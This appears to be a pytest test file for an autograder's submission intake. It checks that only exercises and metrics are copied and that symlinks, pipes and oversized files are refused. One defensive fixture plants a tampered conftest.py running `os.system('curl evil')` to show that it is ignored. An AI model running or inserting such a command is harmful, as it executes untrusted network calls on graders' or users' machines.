"""Taking a submission as data: what is copied, what is ignored, which notebook is graded."""

from __future__ import annotations

import json
import os
from dataclasses import replace
from datetime import UTC
from pathlib import Path

import jupytext
import pytest
from factories import ROOT

from grader.core.course import Assignment, Course, Limits
from grader.core.pairing import pair
from grader.grading import intake

STUB = """# %% [markdown]
# Fill in `f`.

# %%
def f(x):
    raise NotImplementedError
"""
DONE = STUB.replace("raise NotImplementedError", "return 2 * x")
OTHER = STUB.replace("raise NotImplementedError", "return x + x")


def to_ipynb(text: str) -> str:
    return jupytext.writes(jupytext.reads(text, fmt="py:percent"), fmt="ipynb")


def make_course(root: Path, ids=("a",)) -> Course:
    """A course tree with a release of each assignment, plus files a PR might tamper with."""
    root.mkdir(parents=True)
    (root / "course.toml").write_text("# trusted manifest\n")
    (root / "conftest.py").write_text("# trusted conftest\n")
    (root / "tests" / "public").mkdir(parents=True)
    (root / "tests" / "public" / "test_a.py").write_text("def test_a():\n    assert True\n")
    for aid in ids:
        folder = root / "exercises" / aid
        folder.mkdir(parents=True)
        (folder / f"{aid}.py").write_text(STUB)
        (folder / f"{aid}.ipynb").write_text(to_ipynb(STUB))
    from datetime import datetime

    assignments = tuple(
        Assignment(
            id=aid,
            title=aid,
            notebook=f"{aid}.ipynb",
            due=datetime(2030, 1, 1, tzinfo=UTC),
            points=10,
            needs_gpu=False,
        )
        for aid in ids
    )
    limits = Limits(
        call_timeout_s=1,
        kernel_timeout_s=1,
        import_timeout_s=1,
        submission_timeout_s=1,
        memory_mb=1,
        file_size_mb=1,
        open_files=1,
        processes=1,
    )
    return Course(
        id="c",
        title="c",
        course_gpu="T4",
        timezone="UTC",
        hardware={},
        assignments=assignments,
        limits=limits,
        late_policy=None,
        root=root,
    )


@pytest.fixture
def course(tmp_path):
    return make_course(tmp_path / "course")


def submission_from(course: Course, tmp_path: Path) -> Path:
    """A student's fork: a copy of the course tree."""
    sub = tmp_path / "sub"
    for path in sorted(course.root.rglob("*")):
        target = sub / path.relative_to(course.root)
        if path.is_dir():
            target.mkdir(parents=True, exist_ok=True)
        else:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(path.read_bytes())
    return sub


def nb(sub: Path, suffix: str) -> Path:
    return sub / "exercises" / "a" / f"a{suffix}"


def test_only_exercises_and_metrics_are_taken(course, tmp_path):
    sub = submission_from(course, tmp_path)
    nb(sub, ".py").write_text(DONE)
    (sub / "metrics.json").write_text(json.dumps({"m9_roofline": {"x": 1}}))
    (sub / "tests" / "public" / "test_a.py").write_text("def test_a():\n    pass  # edited\n")
    (sub / "conftest.py").write_text("import os; os.system('curl evil')\n")
    (sub / ".github" / "workflows").mkdir(parents=True)
    (sub / ".github" / "workflows" / "x.yml").write_text("on: push\n")
    (sub / ".git").mkdir()
    (sub / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    out = intake.prepare(sub, tmp_path / "scratch", course, None)
    scratch = tmp_path / "scratch"
    taken = sorted(p.relative_to(scratch).as_posix() for p in scratch.rglob("*") if p.is_file())
    assert taken == ["course.toml", "exercises/a/a.ipynb", "exercises/a/a.py", "metrics.json"]
    assert (scratch / "course.toml").read_text() == "# trusted manifest\n"
    joined = "\n".join(out.warnings)
    for name in ("tests/public/test_a.py", "conftest.py", ".github/workflows/x.yml"):
        assert name in joined
    assert "course.toml" not in joined and ".git/HEAD" not in joined  # unchanged / skipped
    assert out.notebooks == {"a": scratch / "exercises" / "a" / "a.py"}
    assert out.errors == {}
    assert out.metrics_path == scratch / "metrics.json" and out.metrics_path.is_file()


def test_only_the_assignments_asked_for_are_read(tmp_path, monkeypatch):
    course = make_course(tmp_path / "course", ids=("a", "b"))
    sub = submission_from(course, tmp_path)
    nb(sub, ".py").write_text(DONE)
    (sub / "exercises" / "b" / "b.ipynb").write_text("{broken")
    read = []
    monkeypatch.setattr(intake, "pair", lambda ex, aid, *a: read.append(aid) or pair(ex, aid, *a))
    out = intake.prepare(sub, tmp_path / "scratch", course, None, assignments=["a"])
    assert read == ["a"]
    assert out.notebooks == {"a": tmp_path / "scratch" / "exercises" / "a" / "a.py"}
    assert out.errors == {} and not any("exercises/b" in w for w in out.warnings)
    everything = intake.prepare(sub, tmp_path / "scratch2", course, None)
    assert read == ["a", "a", "b"]
    assert "exercises/b/b.ipynb is not a readable notebook" in everything.errors["b"]


def test_refuses_symlinks_fifos_and_big_files(course, tmp_path, monkeypatch):
    sub = submission_from(course, tmp_path)
    secret = tmp_path / "secret.txt"
    secret.write_text("token")
    os.symlink(secret, sub / "metrics.json")
    os.symlink(secret, sub / "exercises" / "a" / "data.txt")
    os.mkfifo(sub / "exercises" / "a" / "pipe")
    (sub / "exercises" / "a" / "big.bin").write_bytes(b"0" * 2048)
    (sub / "exercises" / "a" / "bad..name").write_text("x")
    monkeypatch.setattr(intake, "LIMITS", replace(intake.LIMITS, max_file_bytes=1024))
    out = intake.prepare(sub, tmp_path / "scratch", course, None)
    scratch = tmp_path / "scratch"
    assert not (scratch / "metrics.json").exists()
    assert not any(p.is_symlink() for p in scratch.rglob("*"))
    for name in ("data.txt", "pipe", "big.bin", "bad..name"):
        assert not (scratch / "exercises" / "a" / name).exists()
    joined = "\n".join(out.warnings)
    assert "symlink" in joined and "not a regular file" in joined and "limit" in joined
    assert "bad..name" in joined


def test_total_size_cap(course, tmp_path, monkeypatch):
    sub = submission_from(course, tmp_path)
    for i in range(5):
        (sub / "exercises" / "a" / f"blob{i}.bin").write_bytes(b"1" * 1000)
    monkeypatch.setattr(intake, "LIMITS", replace(intake.LIMITS, max_total_bytes=3500))
    out = intake.prepare(sub, tmp_path / "scratch", course, None)
    kept = list((tmp_path / "scratch" / "exercises" / "a").glob("blob*"))
    assert len(kept) < 5
    assert any("total" in w for w in out.warnings)


def test_digest_is_stable_and_content_sensitive(course, tmp_path):
    sub = submission_from(course, tmp_path)
    nb(sub, ".py").write_text(DONE)
    d1 = intake.prepare(sub, tmp_path / "s1", course, None).digest
    (sub / "README.md").write_text("not graded\n")  # outside: no effect on the digest
    d2 = intake.prepare(sub, tmp_path / "s2", course, None).digest
    nb(sub, ".py").write_text(OTHER)
    d3 = intake.prepare(sub, tmp_path / "s3", course, None).digest
    assert d1 == d2 != d3 and len(d1) == 64


def test_submission_digest_is_the_one_prepare_records(course, tmp_path, monkeypatch):
    """batch's resume key (submission_digest, no copy) equals result.json's (Intake.digest),
    refused files and files over the caps included."""
    sub = submission_from(course, tmp_path)
    nb(sub, ".py").write_text(DONE)
    (sub / "metrics.json").write_text("{}")
    (sub / "tests" / "public" / "test_a.py").write_text("edited\n")  # ignored, warned about
    os.symlink(sub / "metrics.json", sub / "exercises" / "a" / "link.py")
    for i in range(4):
        (sub / "exercises" / "a" / f"blob{i}.bin").write_bytes(b"1" * 1000)
    monkeypatch.setattr(intake, "LIMITS", replace(intake.LIMITS, max_total_bytes=2500))
    taken = intake.prepare(sub, tmp_path / "scratch", course, None)
    assert any("total" in w for w in taken.warnings) and any("symlink" in w for w in taken.warnings)
    assert intake.submission_digest(sub) == taken.digest
    files = sorted(p for p in (tmp_path / "scratch").rglob("*") if p.is_file())
    rel = [(p.relative_to(tmp_path / "scratch").as_posix(), p.read_bytes()) for p in files]
    assert intake.digest([f for f in rel if f[0] != "course.toml"]) == taken.digest


@pytest.mark.parametrize(
    "py, ipynb, expected, warns",
    [
        (DONE, None, ".py", False),  # only one exists
        (None, DONE, ".ipynb", False),
        (DONE, DONE, ".py", False),  # equal graded source
        (DONE, STUB, ".py", False),  # only the .py changed
        (STUB, DONE, ".ipynb", False),  # only the .ipynb changed (Colab)
        (DONE, OTHER, ".ipynb", True),  # both changed and differ
    ],
    ids=["only-py", "only-ipynb", "equal", "py-changed", "ipynb-changed", "both-changed"],
)
def test_pairing_rule(course, tmp_path, py, ipynb, expected, warns):
    sub = submission_from(course, tmp_path)
    for suffix, text in ((".py", py), (".ipynb", ipynb)):
        if text is None:
            nb(sub, suffix).unlink()
        else:
            nb(sub, suffix).write_text(text if suffix == ".py" else to_ipynb(text))
    out = intake.prepare(sub, tmp_path / "scratch", course, None)
    assert out.errors == {}
    assert out.notebooks["a"].name == f"a{expected}"
    assert any("both differ" in w for w in out.warnings) is warns


def test_release_dir_overrides_the_course_exercises(course, tmp_path):
    release = tmp_path / "release"
    (release / "a").mkdir(parents=True)
    (release / "a" / "a.py").write_text(DONE)  # a release whose stub is DONE
    sub = submission_from(course, tmp_path)
    nb(sub, ".py").write_text(DONE)
    nb(sub, ".ipynb").write_text(to_ipynb(OTHER))
    out = intake.prepare(sub, tmp_path / "scratch", course, release)
    assert out.notebooks["a"].name == "a.ipynb"  # only the .ipynb changed from that release


def test_missing_assignment_is_an_error(course, tmp_path):
    sub = submission_from(course, tmp_path)
    nb(sub, ".py").unlink()
    nb(sub, ".ipynb").unlink()
    out = intake.prepare(sub, tmp_path / "scratch", course, None)
    assert "a" not in out.notebooks
    assert "neither a.py nor a.ipynb" in out.errors["a"] and "release" in out.errors["a"]


def test_corrupt_notebook_is_an_error_naming_the_file(course, tmp_path):
    sub = submission_from(course, tmp_path)
    nb(sub, ".py").unlink()
    nb(sub, ".ipynb").write_text('{"cells": [ truncated')
    out = intake.prepare(sub, tmp_path / "scratch", course, None)
    assert "a" not in out.notebooks
    msg = out.errors["a"]
    assert "exercises/a/a.ipynb" in msg and "restore" in msg
    assert str(tmp_path / "scratch") not in msg  # names the student's path, not ours


def test_corrupt_notebook_falls_back_to_a_changed_pair(course, tmp_path):
    sub = submission_from(course, tmp_path)
    nb(sub, ".py").write_text(DONE)
    nb(sub, ".ipynb").write_text("{not json")
    out = intake.prepare(sub, tmp_path / "scratch", course, None)
    assert out.notebooks["a"].name == "a.py"
    assert any("a.ipynb" in w and "graded exercises/a/a.py instead" in w for w in out.warnings)


def test_corrupt_notebook_with_unchanged_pair_is_an_error(course, tmp_path):
    sub = submission_from(course, tmp_path)
    nb(sub, ".ipynb").write_text("{not json")  # .py is still the stub
    out = intake.prepare(sub, tmp_path / "scratch", course, None)
    assert "a" not in out.notebooks
    assert "unchanged from the release" in out.errors["a"]


def test_scratch_must_be_empty_and_submission_a_directory(course, tmp_path):
    sub = submission_from(course, tmp_path)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    (scratch / "leftover").write_text("x")
    with pytest.raises(ValueError, match="empty"):
        intake.prepare(sub, scratch, course, None)
    with pytest.raises(ValueError, match="not a directory"):
        intake.prepare(tmp_path / "nope", tmp_path / "s2", course, None)


def test_unknown_course_files_are_listed(course, tmp_path):
    sub = submission_from(course, tmp_path)
    (sub / "grader" / "suites").mkdir(parents=True)
    (sub / "grader" / "suites" / "plugin.py").write_text("POINTS = 100\n")
    out = intake.prepare(sub, tmp_path / "scratch", replace(course), None)
    assert any(w.startswith("ignored grader/suites/plugin.py") for w in out.warnings)
    assert not (tmp_path / "scratch" / "grader").exists()


RELEASE_STUB = STUB.replace(
    "raise NotImplementedError",
    'raise NotImplementedError("f: implement this (see the docstring)")',
)
RELEASE_DONE = RELEASE_STUB.replace(
    'raise NotImplementedError("f: implement this (see the docstring)")', "return 2 * x"
)


@pytest.mark.parametrize("edited", [".py", ".ipynb"])
def test_student_clone_is_not_its_own_release(course, tmp_path, edited):
    """In a student's clone the course's exercises/ is the student's work: the file they edited
    is graded (check and grade alike), never the untouched stub beside it."""
    clone = course.root
    for suffix in (".py", ".ipynb"):
        text = RELEASE_DONE if suffix == edited else RELEASE_STUB
        nb(clone, suffix).write_text(text if suffix == ".py" else to_ipynb(text))
    assert intake.release_for(clone / "exercises", clone / "exercises") is None
    out = intake.prepare(clone, tmp_path / "scratch", course)  # default release: the clone's own
    assert out.notebooks["a"].name == f"a{edited}"
    assert out.warnings == []
    # the check's call: the same function, the same answer
    chosen = intake.pair(clone / "exercises", "a", intake.release_for(clone / "exercises", None))
    assert chosen.path == nb(clone, edited) and chosen.error is None


def test_venv_caches_and_vcs_are_skipped_and_not_counted(course, tmp_path, monkeypatch):
    monkeypatch.setattr(intake, "LIMITS", replace(intake.LIMITS, max_files=50))
    sub = submission_from(course, tmp_path)
    nb(sub, ".py").write_text(DONE)
    for folder in (".venv/lib/python3.12/site-packages/x", ".git/objects", ".mypy_cache", "venv"):
        (sub / folder).mkdir(parents=True)
        for i in range(60):
            (sub / folder / f"f{i}.py").write_text("x = 1\n")
    out = intake.prepare(sub, tmp_path / "scratch", course, None)
    assert out.warnings == []  # no cap reached, no "have no effect" for any of them
    assert out.notebooks["a"].name == "a.py" and out.errors == {}
    assert not (tmp_path / "scratch" / ".venv").exists()


def test_an_untouched_fork_warns_of_nothing(tmp_path):
    """The export renames README, workflows and .gitignore; a fork that kept them is quiet,
    and one that edited them is told, by name."""
    from grader.core.course import load_course
    from grader.release import export_student

    root = ROOT
    fork = export_student(root, tmp_path / "fork")
    course = load_course(root)
    out = intake.prepare(fork, tmp_path / "s1", course)
    assert out.warnings == []
    (fork / "README.md").write_text("my notes\n")
    out = intake.prepare(fork, tmp_path / "s2", course)
    assert [w.split(":")[0] for w in out.warnings] == ["ignored README.md"]
